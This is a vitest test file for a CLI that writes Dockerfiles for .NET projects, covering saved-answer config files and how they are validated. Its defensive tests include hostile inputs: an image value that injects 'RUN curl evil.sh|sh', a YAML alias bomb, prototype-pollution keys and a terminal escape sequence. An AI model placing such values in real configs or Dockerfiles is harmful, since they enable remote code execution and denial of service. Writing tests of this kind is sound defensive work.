import {execFileSync} from 'node:child_process';
import {access, chmod, cp, mkdir, readFile, writeFile} from 'node:fs/promises';
import {createServer, type AddressInfo} from 'node:net';
import path from 'node:path';
import process from 'node:process';
import {execa} from 'execa';
import {describe, expect, it} from 'vitest';
import {binary, fixture, root, runCli} from './cli-run.js';
import {scratchFolder} from './support/scratch-folder.js';

async function copyOf(fixture: string): Promise<string> {
	const directory = await scratchFolder('diw-config-');
	await cp(path.join(root, 'test', 'fixtures', 'projects', fixture), directory, {recursive: true});
	return directory;
}

describe('saved answers', () => {
	it('saves with --save and regenerates identical files from the config alone', async () => {
		const directory = await copyOf('web-api');
		const flags = ['--os', 'alpine', '--arch', 'arm64', '--globalization', 'icu', '--deploy', 'self-contained'];
		const first = await runCli(['--yes', '--save', ...flags, '--output', 'all'], {cwd: directory});
		expect(first.exitCode).toBe(0);
		expect(first.stderr).toContain('saved answers to .dotnet-image-wizardrc.json');
		const saved = JSON.parse(await readFile(path.join(directory, '.dotnet-image-wizardrc.json'), 'utf8'));
		expect(saved).toMatchObject({dotnet: '10.0', app: 'web', os: 'alpine', arch: ['arm64'], globalization: 'icu', project: 'WebApi.csproj'});

		const again = await runCli(['--yes', '--output', 'all'], {cwd: directory});
		expect(again.exitCode).toBe(0);
		expect(again.stdout).toBe(first.stdout);
		expect(again.stdout).toContain('FROM mcr.microsoft.com/dotnet/runtime-deps:10.0-alpine-extra');
	});

	it('reads a YAML number given as the .NET version as written: dotnet: 10.0, as --dotnet 10.0', async () => {
		const directory = await copyOf('web-api');
		for (const [written, dotnet] of [['10.0', '10.0'], ['9.0 # the LTS after', '9.0'], ['10', '10.0']]) {
			await writeFile(path.join(directory, '.dotnet-image-wizardrc.yaml'), `dotnet: ${written}\nos: alpine\n`);
			const result = await runCli(['--yes', '--json', '--detect', 'xml'], {cwd: directory});
			expect(result.exitCode, result.stderr).toBe(0);
			expect(JSON.parse(result.stdout).answers).toMatchObject({dotnet, os: 'alpine'});
		}
		await writeFile(path.join(directory, '.dotnet-image-wizardrc.yaml'), 'dotnet: 10.5e3\n');
		const refused = await runCli(['--yes', '--json', '--detect', 'xml'], {cwd: directory});
		expect(refused.exitCode).toBe(2);
		expect(refused.stderr.trim()).toBe('dotnet-image-wizard: .dotnet-image-wizardrc.yaml: "dotnet" has an invalid value "10.5e3".');
	});

	it('ranks flags over the config file, and the config file over detection', async () => {
		const directory = await copyOf('web-api');
		await writeFile(path.join(directory, '.dotnet-image-wizardrc.yaml'), 'os: alpine\nglobalization: icu\n');
		const {stdout} = await runCli(['--yes', '--json', '--os', 'azurelinux'], {cwd: directory});
		const {answers, provenance} = JSON.parse(stdout);
		expect(answers).toMatchObject({os: 'azurelinux', globalization: 'icu', app: 'web'});
		expect(provenance.os.source).toBe('flag');
		expect(provenance.globalization).toEqual({source: 'config', note: '.dotnet-image-wizardrc.yaml'});
		expect(provenance.app).toEqual({source: 'detected', note: 'Sdk Microsoft.NET.Sdk.Web'});
	});

	it.each([
		['an unknown key', '{"distro": "ubuntu"}', /\.dotnet-image-wizardrc\.json: unknown key "distro" \(accepted: dotnet, app, deploy, startup, shell, globalization, os, arch, project, image, pin\)\./],
		['a bad value', '{"os": "windows"}', /\.dotnet-image-wizardrc\.json: "os" has an invalid value "windows" \(accepted: ubuntu, debian, alpine, azurelinux\)\./],
		['a bad architecture list', '{"arch": ["amd64", "s390x"]}', /"arch" has an invalid value \["amd64","s390x"\]/],
		['broken JSON', '{"os": ', /\.dotnet-image-wizardrc\.json cannot be parsed as JSON: /],
	])('rejects %s naming the key, the file and the accepted values', async (_name, content, message) => {
		const directory = await copyOf('web-api');
		await writeFile(path.join(directory, '.dotnet-image-wizardrc.json'), content);
		const {exitCode, stderr} = await runCli(['--yes'], {cwd: directory});
		expect(exitCode).toBe(2);
		expect(stderr.trim().split('\n')).toHaveLength(1);
		expect(stderr).toMatch(message);
	});

	it('reads the config named by --config', async () => {
		const directory = await copyOf('web-api');
		await writeFile(path.join(directory, 'ci.json'), '{"os": "debian", "dotnet": "8.0"}');
		const {stdout} = await runCli(['--yes', '--config', 'ci.json'], {cwd: directory});
		expect(stdout).toContain('runtime  mcr.microsoft.com/dotnet/aspnet:8.0-bookworm-slim');
		const missing = await runCli(['--yes', '--config', 'nope.json'], {cwd: directory});
		expect(missing.stderr).toContain('--config: nope.json does not exist.');
	});

	it('does not overwrite a different saved config without --force', async () => {
		const directory = await copyOf('web-api');
		await runCli(['--yes', '--save', '--os', 'alpine'], {cwd: directory});
		const refused = await runCli(['--yes', '--save', '--os', 'debian', '--dotnet', '9.0'], {cwd: directory});
		expect(refused.exitCode).toBe(1);
		expect(refused.stderr).toContain('.dotnet-image-wizardrc.json already exists: nothing was written. Pass --force to overwrite.');
		const forced = await runCli(['--yes', '--save', '--os', 'debian', '--dotnet', '9.0', '--force'], {cwd: directory});
		expect(forced.exitCode).toBe(0);
		expect(JSON.parse(await readFile(path.join(directory, '.dotnet-image-wizardrc.json'), 'utf8')).os).toBe('debian');
	});

	it('a saved "pin": true pins as --pin does: a registry out of reach stops the run the same way, and nothing is written', async () => {
		const directory = await copyOf('web-api');
		// A port nothing listens on: a server started and closed again.
		const closed = createServer();
		await new Promise<void>(resolve => closed.listen(0, '127.0.0.1', resolve));
		const port = (closed.address() as AddressInfo).port;
		await new Promise(resolve => closed.close(resolve));
		const args = ['--yes', '--detect', 'xml', '--registry', `http://127.0.0.1:${port}`, '--write'];
		const flagged = await runCli([...args, '--pin'], {cwd: directory});
		await writeFile(path.join(directory, '.dotnet-image-wizardrc.json'), '{"pin": true}\n');
		const saved = await runCli(args, {cwd: directory});
		expect(flagged.exitCode).toBe(1);
		expect(saved.exitCode).toBe(1);
		expect(flagged.stderr).toContain(`cannot verify the tags at http://127.0.0.1:${port}`);
		expect(saved.stderr.replace('note: saved answers from .dotnet-image-wizardrc.json.\n', '')).toBe(flagged.stderr);
		await expect(access(path.join(directory, 'Dockerfile'))).rejects.toThrow();
	});

	it('a saved pin with --offline says to add --no-pin; --no-pin leaves the tags; --pin with --no-pin is refused', async () => {
		const directory = await copyOf('web-api');
		await writeFile(path.join(directory, '.dotnet-image-wizardrc.json'), '{"pin": true}\n');
		const offline = await runCli(['--yes', '--detect', 'xml', '--offline', '--output', 'dockerfile'], {cwd: directory});
		expect(offline.exitCode).toBe(2);
		expect(offline.stderr.trim()).toBe('dotnet-image-wizard: --offline uses no network: it cannot pin the base images as .dotnet-image-wizardrc.json "pin" says; add --no-pin to leave them as tags this run.');
		const unpinned = await runCli(['--yes', '--detect', 'xml', '--offline', '--no-pin', '--output', 'dockerfile'], {cwd: directory});
		expect(unpinned.exitCode, unpinned.stderr).toBe(0);
		expect(unpinned.stdout).toContain('FROM mcr.microsoft.com/dotnet/aspnet:10.0-noble-chiseled\n');
		const both = await runCli(['--yes', '--pin', '--no-pin'], {cwd: directory});
		expect(both.exitCode).toBe(2);
		expect(both.stderr.trim()).toBe('dotnet-image-wizard: --pin and --no-pin say opposite things: give one of them.');
	});
});

describe('project problems on the command line', () => {
	it('explains net48 and accepts --dotnet to go on anyway', async () => {
		const directory = await copyOf('legacy-net48');
		const refused = await runCli(['--yes'], {cwd: directory});
		expect(refused.exitCode).toBe(2);
		expect(refused.stderr).toMatch(/Legacy\.csproj: the project targets net48: \.NET Framework runs only in Windows containers.*Pass --dotnet/);
		const forced = await runCli(['--yes', '--dotnet', '10.0'], {cwd: directory});
		expect(forced.exitCode).toBe(0);
		expect(forced.stderr).toContain('note: the project targets net48');
	});

	it('requires --project when a solution lists several', async () => {
		const directory = await copyOf('solution');
		const {exitCode, stderr} = await runCli(['--yes'], {cwd: directory});
		expect(exitCode).toBe(2);
		expect(stderr).toContain('Two.sln lists several apps: pass --project with one of Api/Api.csproj, Worker/Worker.csproj, or --all for every app');
		const chosen = await runCli(['--yes', '--project', 'Worker/Worker.csproj', '--output', 'dockerfile'], {cwd: directory});
		// Nothing outside Worker/ is read by its restore: the build context is the app's folder, and the output says so.
		expect(chosen.stderr).toContain('note: build context: Worker (the app\'s folder).');
		expect(chosen.stdout).toContain('COPY Worker.csproj .');
		expect(chosen.stdout).toContain('ENTRYPOINT ["dotnet", "Worker.dll"]');
	});
});

describe('a config file is data, read only when it is a regular file', () => {
	// A regression here would hang the run: execa stops it, and the test fails instead.
	const run = (args: string[], cwd: string, env: Record<string, string> = {}) => runCli(['--yes', '--detect', 'xml', '--output', 'dockerfile', ...args], {cwd, timeout: 15_000, env});
	const oneLine = (stderr: string) => {
		expect(stderr.trim().split('\n')).toHaveLength(1);
		expect(stderr).not.toMatch(/\n\s+at |\(node:\d+\)/);
		return stderr.trim();
	};

	it.each([
		['/dev/zero', 'dotnet-image-wizard: --config: /dev/zero is a device, not a regular file: only regular files are read.'],
		['/dev/null', 'dotnet-image-wizard: --config: /dev/null is a device, not a regular file: only regular files are read.'],
		['.', 'dotnet-image-wizard: --config: . is a folder, not a file.'],
		['', 'dotnet-image-wizard: --config: give the config file to read, like --config ci.json.'],
	])('--config %s is refused in one line', {timeout: 20_000}, async (config, message) => {
		const directory = await copyOf('web-api');
		const {exitCode, stderr} = await run(['--config', config], directory);
		expect(exitCode).toBe(2);
		expect(oneLine(stderr)).toBe(message);
	});

	it('refuses a FIFO as --config and as the searched config, instead of waiting for a writer', {timeout: 40_000}, async () => {
		const directory = await copyOf('web-api');
		execFileSync('mkfifo', [path.join(directory, 'ci.json'), path.join(directory, '.dotnet-image-wizardrc.yaml')]);
		const explicit = await run(['--config', 'ci.json'], directory);
		expect(explicit.exitCode).toBe(2);
		expect(oneLine(explicit.stderr)).toBe('dotnet-image-wizard: --config: ci.json is a named pipe (FIFO), not a regular file: only regular files are read.');
		const searched = await run([], directory);
		expect(searched.exitCode).toBe(2);
		expect(oneLine(searched.stderr)).toBe('dotnet-image-wizard: the config file .dotnet-image-wizardrc.yaml is a named pipe (FIFO), not a regular file: only regular files are read.');
	});

	it('says a folder named like the config is a folder, naming it', {timeout: 20_000}, async () => {
		const directory = await copyOf('web-api');
		await mkdir(path.join(directory, '.dotnet-image-wizardrc.json'));
		const {exitCode, stderr} = await run([], directory);
		expect(exitCode).toBe(2);
		expect(oneLine(stderr)).toBe('dotnet-image-wizard: the config file .dotnet-image-wizardrc.json is a folder, not a file.');
	});

	it('refuses a config larger than 1 MiB without reading it all', {timeout: 20_000}, async () => {
		const directory = await copyOf('web-api');
		await writeFile(path.join(directory, 'big.json'), `{"os": "alpine"${' '.repeat(1024 * 1024)}}`);
		const {exitCode, stderr} = await run(['--config', 'big.json'], directory);
		expect(exitCode).toBe(2);
		expect(oneLine(stderr)).toBe('dotnet-image-wizard: --config: big.json is larger than 1 MiB, more than such a file ever needs: it is not read.');
	});

	it('says an unreadable config cannot be read (as root: run as nobody, whom permissions stop)', {timeout: 20_000}, async () => {
		const directory = await copyOf('web-api');
		await writeFile(path.join(directory, '.dotnet-image-wizardrc.json'), '{"os": "alpine"}', {mode: 0o000});
		let result;
		if (process.getuid?.() === 0) {
			await chmod(directory, 0o755);
			const cache = await scratchFolder('diw-nobody-cache-');
			await chmod(cache, 0o777);
			const run = await execa('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', process.execPath, binary, '--today', '2026-11-24', '--yes', '--detect', 'xml', '--output', 'dockerfile'], {cwd: directory, reject: false, timeout: 15_000, input: '', env: {XDG_CACHE_HOME: cache}});
			result = {exitCode: run.exitCode, stderr: String(run.stderr)};
		} else {
			result = await run([], directory);
		}
		expect(result.exitCode).toBe(2);
		expect(oneLine(result.stderr)).toBe('dotnet-image-wizard: the config file .dotnet-image-wizardrc.json cannot be read: permission denied.');
	});

	it.each(['x.js', 'x.cjs', 'x.mjs', 'x.ts', 'x.toml'])('never runs --config %s: only JSON, YAML and the rc file are read', {timeout: 20_000}, async name => {
		const directory = await copyOf('web-api');
		const marker = path.join(directory, 'ran');
		await writeFile(path.join(directory, name), `require('node:fs').writeFileSync(${JSON.stringify(marker)}, 'x'); module.exports = {os: 'alpine'};\n`);
		const {exitCode, stderr} = await run(['--config', name], directory);
		expect(exitCode).toBe(2);
		expect(oneLine(stderr)).toBe(`dotnet-image-wizard: --config: ${name} is a ${path.extname(name)} file: a config is data, read from JSON (.json), YAML (.yaml, .yml) or a file with no extension, never run as code.`);
		await expect(access(marker)).rejects.toThrow();
	});

	it('reads JSON with a byte-order mark, and an extension-less rc file as YAML', {timeout: 20_000}, async () => {
		const directory = await copyOf('web-api');
		await writeFile(path.join(directory, 'ci.json'), '\uFEFF{"os": "alpine"}');
		const bom = await run(['--config', 'ci.json'], directory);
		expect(bom.exitCode).toBe(0);
		expect(bom.stdout).toContain('-alpine');
		await writeFile(path.join(directory, '.dotnet-image-wizardrc'), 'os: azurelinux\n');
		const rc = await run([], directory);
		expect(rc.stdout).toContain('-azurelinux');
	});

	it.each([
		['several YAML documents', '.dotnet-image-wizardrc.yaml', 'os: alpine\n---\nos: debian\n', '.dotnet-image-wizardrc.yaml holds 2 YAML documents (the second starts on line 2): a config is one document.'],
		['a key given twice in YAML', '.dotnet-image-wizardrc.yaml', 'os: alpine\nos: debian\n', '.dotnet-image-wizardrc.yaml gives the same key twice (line 2): say each answer once.'],
		['a key given twice in JSON', '.dotnet-image-wizardrc.json', '{"os": "alpine",\n "os": "debian"}', '.dotnet-image-wizardrc.json gives the same key twice (line 2): say each answer once.'],
		['an alias bomb', '.dotnet-image-wizardrc.yaml', `a: &a [${Array(9).fill('"x"').join(',')}]\nb: &b [${Array(9).fill('*a').join(',')}]\nc: &c [${Array(9).fill('*b').join(',')}]\nos: [${Array(9).fill('*c').join(',')}]\n`, '.dotnet-image-wizardrc.yaml expands its YAML aliases more than 100 times, like an alias bomb: it is not read.'],
		['YAML nested 100,000 deep', '.dotnet-image-wizardrc.yaml', `os: ${'['.repeat(100_000)}${']'.repeat(100_000)}\n`, '.dotnet-image-wizardrc.yaml nests its values deeper than a config can: it is not read.'],
		['JSON nested 100,000 deep', '.dotnet-image-wizardrc.json', `{"os": ${'['.repeat(100_000)}${']'.repeat(100_000)}}`, '.dotnet-image-wizardrc.json: "os" has an invalid value (nested too deep to show) (accepted: ubuntu, debian, alpine, azurelinux).'],
		['an image that would inject a Dockerfile line', '.dotnet-image-wizardrc.json', '{"image": "x\\nRUN curl evil.sh|sh"}', '.dotnet-image-wizardrc.json: "image" "x\\nRUN curl evil.sh|sh" is not an image reference'],
		['an image that is not XML-safe', '.dotnet-image-wizardrc.yaml', 'image: "a&b"\n', '.dotnet-image-wizardrc.yaml: "image" "a&b" is not an image reference'],
		['__proto__', '.dotnet-image-wizardrc.json', '{"__proto__": {"os": "alpine"}}', '.dotnet-image-wizardrc.json: unknown key "__proto__"'],
		['constructor', '.dotnet-image-wizardrc.yaml', 'constructor: {os: alpine}\n', '.dotnet-image-wizardrc.yaml: unknown key "constructor"'],
		['a key with a terminal escape', '.dotnet-image-wizardrc.json', '{"\\u001b]0;pwned\\u0007": 1}', '.dotnet-image-wizardrc.json: unknown key "\\u001b]0;pwned\\u0007"'],
	])('refuses %s in one line naming the file', {timeout: 20_000}, async (_name, file, content, message) => {
		const directory = await copyOf('web-api');
		await writeFile(path.join(directory, file), content);
		const {exitCode, stderr} = await run([], directory);
		expect(exitCode).toBe(2);
		expect(oneLine(stderr)).toContain(`dotnet-image-wizard: ${message}`);
		expect(stderr).not.toContain('\u001B');
	});

	it('keeps YAML warnings off stderr as process warnings', {timeout: 20_000}, async () => {
		const directory = await copyOf('web-api');
		await writeFile(path.join(directory, '.dotnet-image-wizardrc.yaml'), '%FOO bar\n---\nos: !foo alpine\n');
		const {exitCode, stdout, stderr} = await run([], directory);
		expect(exitCode).toBe(0);
		expect(stdout).toContain('-alpine');
		expect(stderr).not.toMatch(/\(node:\d+\)|YAMLWarning/);
	});

	it('searches from the folder upwards, up to the home folder and not above it', {timeout: 30_000}, async () => {
		const outer = await scratchFolder('diw-home-');
		const home = path.join(outer, 'home');
		const app = path.join(home, 'src', 'app');
		await mkdir(app, {recursive: true});
		await cp(fixture('web-api'), app, {recursive: true});
		await writeFile(path.join(outer, '.dotnet-image-wizardrc.json'), '{"os": "alpine"}');
		const above = await run([], app, {HOME: home});
		expect(above.stdout).not.toContain('-alpine');
		await writeFile(path.join(home, '.dotnet-image-wizardrc.json'), '{"os": "azurelinux"}');
		const atHome = await run([], app, {HOME: home});
		expect(atHome.stdout).toContain('-azurelinux');
		await writeFile(path.join(home, 'src', 'dotnet-image-wizard.config.json'), '{"os": "alpine"}');
		const nearer = await run([], app, {HOME: home});
		expect(nearer.stdout).toContain('-alpine');
	});
});
